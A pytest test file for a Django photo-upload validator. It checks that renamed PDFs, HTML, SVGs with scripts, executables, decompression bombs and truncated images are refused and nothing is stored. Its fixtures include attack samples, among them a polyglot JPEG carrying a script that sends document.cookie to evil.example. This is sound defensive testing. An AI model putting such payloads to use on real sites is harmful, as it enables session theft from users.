"""photo_accept on hostile and broken files: each refused with a clear message, and nothing stored."""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.core.files import File
from django.db import transaction
from PIL import Image, ImageFile

from photos.services import PhotoRejected, photo_accept
from photos.storage import saving_photos
from tests.factories import UserFactory
from tests.photos.images import encode, heic_bytes, jpeg_bytes, marked_image, png_with_header, upload

pytestmark = pytest.mark.django_db

ACCEPTED = "(JPEG, PNG, WebP or HEIC)"


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("photo.jpg", jpeg_bytes())
    return buffer.getvalue()


def animated(fmt: str) -> bytes:
    frames = [marked_image(), marked_image().transpose(Image.Transpose.ROTATE_180)]
    return encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100)


def noise_jpeg(size: int) -> bytes:
    return encode(Image.frombytes("RGB", (size, size), os.urandom(size * size * 3)), "JPEG", quality=95)


JPEG = jpeg_bytes()
HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    # name: (content, code, message)
    "a PDF renamed .jpg": (
        lambda: b"%PDF-1.7\n1 0 obj << /JS (app.alert(1)) >> endobj\n%%EOF",
        "not_an_image",
        f"This file is not a photo in an accepted format {ACCEPTED}: its content is PDF.",
    ),
    "an HTML page renamed .jpg": (
        lambda: b"<!DOCTYPE html><html><body><script>fetch('/api/')</script></body></html>",
        "not_an_image",
        f"This file is not a photo in an accepted format {ACCEPTED}: its content is HTML.",
    ),
    "a ZIP archive renamed .jpg": (
        zip_archive,
        "not_an_image",
        f"This file is not a photo in an accepted format {ACCEPTED}: its content is ZIP.",
    ),
    "an SVG with a script": (
        lambda: b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "not_an_image",
        f"This file is not a photo in an accepted format {ACCEPTED}: its content is SVG.",
    ),
    "an animated GIF": (
        lambda: animated("GIF"),
        "not_an_image",
        f"This file is not a photo in an accepted format {ACCEPTED}: its content is GIF.",
    ),
    "an AVIF (a format we do not take)": (
        lambda: encode(marked_image(), "AVIF"),
        "not_an_image",
        f"This file is not a photo in an accepted format {ACCEPTED}: its content is AVIF.",
    ),
    "a Windows program": (
        lambda: b"MZ\x90\x00" + bytes(200),
        "not_an_image",
        f"This file is not a photo in an accepted format {ACCEPTED}: its content is Windows executable.",
    ),
    "an MP4 video": (
        lambda: b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + bytes(100),
        "not_an_image",
        f"This file is not a photo in an accepted format {ACCEPTED}: its content is video.",
    ),
    "plain text": (
        lambda: "整改完成，请核查。".encode(),
        "not_an_image",
        f"This file is not a photo in an accepted format {ACCEPTED}.",
    ),
    "a decompression bomb (100,000 × 100,000 PNG)": (
        lambda: png_with_header(100_000, 100_000),
        "too_many_pixels",
        "The photo has more than 50 megapixels.",
    ),
    "a truncated JPEG": (lambda: JPEG[: len(JPEG) // 2], "corrupt", "The JPEG file is damaged or incomplete."),
    "a truncated PNG": (
        lambda: encode(marked_image(), "PNG")[:120],
        "corrupt",
        "The PNG file is damaged or incomplete.",
    ),
    "a truncated HEIC": (lambda: heic_bytes()[:300], "corrupt", "The HEIC file is damaged or incomplete."),
    "a polyglot: a JPEG header, then a script": (
        lambda: JPEG[:20] + b"<script>document.location='//evil.example/'+document.cookie</script>" * 4,
        "corrupt",
        "The JPEG file is damaged or incomplete.",
    ),
    "an animated WebP": (lambda: animated("WEBP"), "animated", "Animated images are not accepted; send a still photo."),
    "an animated PNG": (lambda: animated("PNG"), "animated", "Animated images are not accepted; send a still photo."),
    "an empty file": (lambda: b"", "empty", "The file is empty."),
}


def report_with_photos(*uploads: File) -> None:
    """What an intake does: the case row, then each photo accepted and saved, all or nothing."""
    with saving_photos() as saver, transaction.atomic():
        UserFactory()  # stands for the case row written in the same transaction
        for each in uploads:
            saver.save(photo_accept(upload=each), prefix="cases/2026/11/")


@pytest.mark.parametrize("hostile", sorted(HOSTILE))
def test_it_refuses_a_hostile_file_with_a_clear_message_and_stores_nothing(
    hostile: str, stored_files: Callable[[], list[str]]
) -> None:
    content, code, message = HOSTILE[hostile]
    users_before = get_user_model().objects.count()
    assert stored_files() == []

    # A good photo first, so the refusal has something to undo: a half-accepted upload.
    with pytest.raises(PhotoRejected) as refused:
        report_with_photos(upload(jpeg_bytes()), upload(content(), name="IMG_2001.jpg"))

    assert (refused.value.code, refused.value.messages) == (code, [message])
    assert stored_files() == []
    assert get_user_model().objects.count() == users_before


def test_it_refuses_a_file_over_the_size_limit_from_the_settings(
    settings: Any, stored_files: Callable[[], list[str]]
) -> None:
    settings.PHOTO_MAX_BYTES = 20 * 1024
    data = noise_jpeg(200)
    assert len(data) > settings.PHOTO_MAX_BYTES

    with pytest.raises(PhotoRejected) as refused:
        report_with_photos(upload(data))

    assert (refused.value.code, refused.value.messages) == ("too_large", ["The photo is larger than 20.0\xa0KB."])
    assert stored_files() == []


def test_one_byte_over_the_size_limit_is_refused() -> None:
    data = jpeg_bytes()

    with pytest.raises(PhotoRejected) as refused:
        photo_accept(upload=upload(data), max_bytes=len(data) - 1)

    assert refused.value.code == "too_large"


class EndlessStream(io.RawIOBase):
    """A 'file' that never ends and cannot seek, counting what was read from it."""

    def __init__(self) -> None:
        self.bytes_read = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        buffer[:] = b"\xff" * len(buffer)
        self.bytes_read += len(buffer)
        return len(buffer)


def test_it_stops_reading_one_byte_past_the_limit() -> None:
    stream = EndlessStream()

    with pytest.raises(PhotoRejected) as refused:
        photo_accept(upload=File(stream, name="huge.jpg"), max_bytes=1_000_000)

    assert refused.value.code == "too_large"
    assert stream.bytes_read == 1_000_001


class DeclaredHuge(io.BytesIO):
    size = 2 * 1024**3


def test_a_declared_size_over_the_limit_is_refused_without_reading() -> None:
    stream = DeclaredHuge(jpeg_bytes())

    with pytest.raises(PhotoRejected) as refused:
        photo_accept(upload=File(stream, name="huge.jpg"))

    assert refused.value.code == "too_large"
    assert stream.tell() == 0


def test_it_refuses_too_many_pixels_from_the_header_before_decoding(monkeypatch: pytest.MonkeyPatch) -> None:
    def decode(*args: Any) -> None:
        raise AssertionError("pixels were decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", decode)
    data = encode(marked_image((100, 100)), "PNG")

    with pytest.raises(PhotoRejected) as refused:
        photo_accept(upload=upload(data), max_pixels=100 * 100 - 1)

    assert (refused.value.code, refused.value.messages) == (
        "too_many_pixels",
        ["The photo has more than 0.01 megapixels."],
    )


def test_a_bomb_under_pillows_own_limit_is_refused_by_ours() -> None:
    """9,000 × 9,000 is 81 MP: under Pillow's 89 MP guard, over the 50 MP default. Its data is a few rows only,
    so decoding it would report it damaged: 'too many pixels' shows the header was checked first."""
    with pytest.raises(PhotoRejected) as refused:
        photo_accept(upload=upload(png_with_header(9000, 9000)))

    assert refused.value.code == "too_many_pixels"


def test_pillows_decompression_bomb_warning_is_a_refusal_even_under_a_higher_limit() -> None:
    with pytest.raises(PhotoRejected) as refused:
        photo_accept(upload=upload(png_with_header(10_000, 10_000)), max_pixels=200_000_000)

    assert (refused.value.code, refused.value.messages) == (
        "too_many_pixels",
        ["The photo has more than 89.5 megapixels."],
    )


def test_the_pixel_limit_comes_from_the_settings(settings: Any) -> None:
    settings.PHOTO_MAX_PIXELS = 64 * 48 - 1

    with pytest.raises(PhotoRejected) as refused:
        photo_accept(upload=upload(jpeg_bytes(size=(64, 48))))

    assert refused.value.code == "too_many_pixels"


def test_a_refusal_is_a_validation_error_forms_and_serializers_understand() -> None:
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError) as refused:
        photo_accept(upload=upload(b"%PDF-1.4"))

    assert refused.value.code == "not_an_image"
